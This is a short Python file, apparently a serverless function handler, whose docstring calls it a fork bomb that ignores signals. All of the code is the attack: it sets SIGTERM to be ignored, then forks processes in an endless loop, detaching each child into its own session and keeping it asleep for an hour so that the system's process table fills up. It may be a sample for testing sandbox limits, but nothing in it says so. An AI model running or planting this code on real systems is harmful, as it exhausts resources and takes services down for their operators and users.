"""A fork bomb that ignores signals."""

import os
import signal
import time


def handler(event, context):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
                time.sleep(3600)
                os._exit(0)
        except OSError:
            time.sleep(3600)
